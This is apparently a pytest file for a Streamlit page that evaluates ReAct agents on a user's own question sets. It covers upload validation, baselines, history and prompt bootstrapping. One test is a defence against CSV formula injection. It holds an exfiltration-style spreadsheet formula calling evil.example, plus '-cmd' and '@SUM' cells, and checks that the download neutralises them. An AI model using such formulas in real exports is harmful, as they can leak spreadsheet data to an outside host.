"""The Evaluate page with a person's own questions: a bad file is refused with its line and reason, a good one is kept
(for its owner only) and evaluated with repeated runs, intervals and trajectory checks, and a second evaluation is
compared with the first as a baseline (which questions newly pass and fail, both traces side by side); a run is added
to a set from History with its answer corrected."""

from __future__ import annotations

import csv
import io
import json

from app_helpers import ask, go, new_session, run_evaluation_and_wait, unescape, use_app

from react_core.history import open_history
from react_core.presets.preset import dump_preset
from react_core.presets.store import PresetStore

GOOD = b"id,question,answer\na,What is 6 * 7?,42\nb,What is 2 + 2?,4\n"
RIGHT = [
    "Thought 1: Compute.\nAction 1: Calculator[6 * 7]",
    "Thought 2: Done.\nAction 2: Finish[42]",
    "Thought 1: Compute.\nAction 1: Calculator[2 + 2]",
    "Thought 2: Done.\nAction 2: Finish[4]",
]


def upload(at, name: str, data: bytes, set_name: str = ""):
    at.file_uploader(key="qset-file").upload(name, data, "text/plain").run()
    at.text_input(key="qset-name").set_value(set_name)
    at.button(key="qset-keep").click().run()
    assert not at.exception, at.exception
    return at


def messages(at, kind: str) -> list[str]:
    return [unescape(m.value) for m in getattr(at, kind)]


def evaluate(at, repetitions: int = 1, name: str = "arith"):
    at.selectbox(key="eval-dataset").set_value(f"Your set: {name}")
    at.multiselect(key="eval-strategies").set_value(["react"]).run()
    at.multiselect(key="eval-tools").set_value(["calculator"])
    at.selectbox(key="eval-preset-react").set_value("paper")
    at.number_input(key="eval-repetitions").set_value(repetitions).run()
    if repetitions > 1:  # repeated runs need a temperature above 0: the page asks for one (0.7 unless changed)
        assert at.number_input(key="eval-temperature").value == 0.7
    return run_evaluation_and_wait(at)


def table(at, column: str):
    return next(d.value for d in at.dataframe if column in d.value.columns)


def test_a_bad_file_is_refused_with_its_line_and_reason(monkeypatch, tmp_path):
    use_app(monkeypatch, tmp_path)
    at = upload(go(new_session(), "evaluate"), "mine.csv", b"question,answer\nWho?,Ann\n,Bob\n")
    assert any("Refused: mine.csv, line 3: question is missing or empty" in m for m in messages(at, "error"))
    assert open_history("").question_sets() == []
    assert "Your set: mine" not in at.selectbox(key="eval-dataset").options


def test_a_kept_set_is_evaluated_with_intervals_checks_and_a_baseline(monkeypatch, tmp_path):
    wrong = ["Thought 1: Guess.\nAction 1: Finish[41]", "Thought 1: Guess.\nAction 1: Finish[4]"]
    script = use_app(monkeypatch, tmp_path, RIGHT)
    at = upload(go(new_session(), "evaluate"), "numbers.csv", GOOD, "arith")
    assert any("Kept 2 questions as 'arith'" in m for m in messages(at, "success"))
    assert [s.name for s in open_history("").question_sets()] == ["arith"]
    assert [s.name for s in open_history("someone@example.org").question_sets()] == []
    first = evaluate(at)
    # The paper's Table 1 scored its own 500 questions: its column is not set beside two of this person's.
    assert not any(any(c.startswith("paper ") for c in d.value.columns) for d in first.dataframe)
    assert any("No paper column: the paper's Table 1" in unescape(c.value) for c in first.caption)
    scores = table(first, "grounded")
    assert list(scores["EM"]) == ["100.0 [100.0, 100.0]"] and list(scores["grounded %"]) == [100.0]
    script.write_text(json.dumps(wrong * 2))  # each evaluation reads the script from its start
    at = evaluate(at, repetitions=2)
    scores = table(at, "grounded")
    assert list(scores["runs"]) == [4] and list(scores["questions"]) == [2] and list(scores["EM"])[0].startswith("25.0")
    at.selectbox(key="eval-check-tool").set_value("calculator").run()
    assert list(table(at, "grounded")["used calculator %"]) == [0.0]
    assert list(table(at, "prediction")["used calculator"]) == [False] * 4
    baseline = at.selectbox(key="eval-baseline")
    assert len(baseline.options) == 1 and " · 2 questions in common · " in baseline.options[0]
    baseline.set_value(baseline.options[0]).run()
    assert not at.exception, at.exception
    assert any("on 2 questions in common" in unescape(m.value) for m in at.markdown)
    changes = table(at, "change")
    assert list(changes["change"]) == ["newly fails"] and list(changes["id"]) == ["a"]
    assert list(changes["baseline"]) == ["42"] and list(changes["now"]) == ["41"]
    at.selectbox(key="eval-both-react").set_value("a").run()
    assert not at.exception, at.exception
    captions = [unescape(c.value) for c in at.caption]
    assert any(c.startswith("baseline: ReAct · paper") for c in captions)  # each side says which results it is
    assert any(c.startswith("now: ReAct · paper") for c in captions)


def test_only_results_with_questions_in_common_are_offered_as_a_baseline(monkeypatch, tmp_path):
    use_app(monkeypatch, tmp_path, RIGHT + RIGHT)
    at = evaluate(upload(go(new_session(), "evaluate"), "numbers.csv", GOOD, "arith"))
    assert at.selectbox(key="eval-baseline").options == []  # one evaluation of one cell: nothing to compare with
    # Another set whose rows have the same ids (a, b) but other questions: its results share no question with these.
    other = b"id,question,answer\na,What is 5 * 5?,25\nb,What is 3 + 3?,6\n"
    at = evaluate(upload(at, "other.csv", other, "other"), name="other")
    baseline = at.selectbox(key="eval-baseline")
    assert baseline.options == []  # before: arith's results were offered, and said "0 newly pass, 0 newly fail"
    assert baseline.placeholder == "No results share these questions"


def test_a_run_is_added_to_a_set_from_history_with_its_answer_corrected(monkeypatch, tmp_path):
    use_app(monkeypatch, tmp_path, ["Thought 1: I recall it.\nAction 1: Finish[Lyon]"])
    at = go(ask(new_session(), "What is the capital of France?"), "history")
    at.button(key="open-1").click().run()
    assert at.text_input(key="add-set-answer-1").value == "Lyon"  # the run's answer, to correct
    at.text_input(key="add-set-name-1").set_value("capitals")
    at.text_input(key="add-set-answer-1").set_value("Paris")
    at.button(key="add-set-1").click().run()
    assert not at.exception, at.exception
    assert any("Added run #1 to 'capitals' (1 question)" in m for m in messages(at, "success"))
    saved = open_history("").get_question_set("capitals")
    assert saved.questions == [{"id": "run-1", "question": "What is the capital of France?", "answer": "Paris"}]
    at.button(key="add-set-1").click().run()
    assert any("Not added: capitals: run 1 is already in this set" in m for m in messages(at, "error"))
    go(at, "evaluate")
    assert "Your set: capitals" in at.selectbox(key="eval-dataset").options


def test_bootstrap_from_the_page_keeps_the_best_set_as_the_persons_preset(monkeypatch, tmp_path):
    teacher = RIGHT  # both train questions right, with the Calculator: both qualify
    dev = [
        "Thought 1: Guess.\nAction 1: Finish[0]",  # the starting prompt
        "Thought 1: Compute.\nAction 1: Calculator[3 + 3]",  # candidate 1
        "Thought 2: Done.\nAction 2: Finish[6]",
        "Thought 1: Guess.\nAction 1: Finish[0]",  # candidate 2
    ]
    use_app(monkeypatch, tmp_path, teacher + dev)
    at = upload(go(new_session(), "evaluate"), "numbers.csv", GOOD + b"c,What is 3 + 3?,6\n", "arith")
    at.selectbox(key="eval-dataset").set_value("Your set: arith")
    at.multiselect(key="eval-tools").set_value(["calculator"])
    assert at.selectbox(key="boot-start").value == "paper"  # the paper's dialect unless another is chosen
    for key, value in {"boot-train": 2, "boot-dev": 1, "boot-k": 1, "boot-candidates": 2}.items():
        at.number_input(key=key).set_value(value)
    at.text_input(key="boot-name").set_value("arith-boot")
    at.button(key="boot-run").click().run()
    assert not at.exception, at.exception
    assert at.session_state.boot_job.wait(30), "the bootstrap did not finish"
    at.run()
    assert any("dev EM 100.0 with candidate 1 of 2 vs 0.0 with paper" in m for m in messages(at, "success"))
    at.button(key="boot-keep").click().run()
    assert any("Saved as your prompt version arith-boot@1" in m for m in messages(at, "success"))
    saved = dump_preset(PresetStore().load("arith-boot@1"))
    assert "Calculator[" in saved and "What is 3 + 3?" not in saved  # the dev question never becomes an example


def test_a_bootstrap_stopped_on_the_page_resumes(monkeypatch, tmp_path):
    gate = tmp_path / "gate"
    first = {"gate": str(gate), "text": RIGHT[0]}  # the teacher's first call waits until the test opens the gate
    use_app(monkeypatch, tmp_path, [first, *RIGHT[1:], *["Thought 1: Guess.\nAction 1: Finish[0]"] * 2])
    at = upload(go(new_session(), "evaluate"), "numbers.csv", GOOD + b"c,What is 3 + 3?,6\n", "arith")
    at.selectbox(key="eval-dataset").set_value("Your set: arith")
    at.multiselect(key="eval-tools").set_value(["calculator"])
    for key, value in {"boot-train": 2, "boot-dev": 1, "boot-k": 2, "boot-candidates": 1}.items():
        at.number_input(key=key).set_value(value)
    at.button(key="boot-run").click().run()
    job = at.session_state.boot_job
    job.cancel()  # what the Stop button does
    assert job.wait(30)
    at.run()
    assert any("Stopped while the teacher ran" in m for m in messages(at, "warning"))
    gate.touch()
    at.button(key="boot-resume").click().run()
    assert at.session_state.boot_job is not job and at.session_state.boot_job.wait(30)
    at.run()
    assert not at.exception, at.exception
    assert any("candidate 1 of 1" in m for m in messages(at, "warning") + messages(at, "success"))


def test_the_questions_download_makes_formula_cells_text_and_the_tables_own_export_is_off(monkeypatch, tmp_path):
    from streamlit import config
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    downloads: dict[str, bytes] = {}
    keep = MemoryMediaFileStorage.load_and_get_id

    def spy(self, data, mimetype, kind, filename=None):  # what a person's browser would save
        if mimetype == "text/csv":
            downloads[filename] = data
        return keep(self, data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
    use_app(monkeypatch, tmp_path, ["Thought 1: Guess.\nAction 1: Finish[@SUM(1+1)]"])
    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data = ("question,answer\n" + '"' + link.replace('"', '""') + '",-cmd\n').encode()
    at = evaluate(upload(go(new_session(), "evaluate"), "links.csv", data, "arith"))
    assert list(table(at, "prediction")["question"]) == [link]  # shown as it is
    assert [d.label for d in at.get("download_button")] == ["Download as CSV"]
    ((name, saved),) = downloads.items()
    assert name.endswith("-questions.csv")
    rows = list(csv.DictReader(io.StringIO(saved.decode("utf-8-sig"), newline="")))
    assert (rows[0]["question"], rows[0]["gold"], rows[0]["prediction"]) == ("'" + link, "'-cmd", "'@SUM(1+1)")
    # Streamlit's own download and copy of a table write the cells as they are: off, for every table.
    assert config.get_option("client.disableDataExport") is True


def test_a_kept_set_is_deleted_from_the_page_and_leaves_the_dataset_choice(monkeypatch, tmp_path):
    use_app(monkeypatch, tmp_path)
    at = upload(go(new_session(), "evaluate"), "numbers.csv", GOOD, "arith")
    assert at.selectbox(key="eval-dataset").value == "Your set: arith"
    at.button(key="qset-delete-button").click().run()
    assert any("Choose one of your sets to delete" in m for m in messages(at, "warning"))
    assert [s.name for s in open_history("").question_sets()] == ["arith"]  # nothing chosen: nothing deleted
    at.selectbox(key="qset-delete").set_value("arith").run()
    at.button(key="qset-delete-button").click().run()
    assert not at.exception, at.exception
    assert any("Deleted the set 'arith'" in m for m in messages(at, "success"))
    assert open_history("").question_sets() == []
    assert "Your set: arith" not in at.selectbox(key="eval-dataset").options
    assert at.selectbox(key="eval-dataset").value != "Your set: arith"
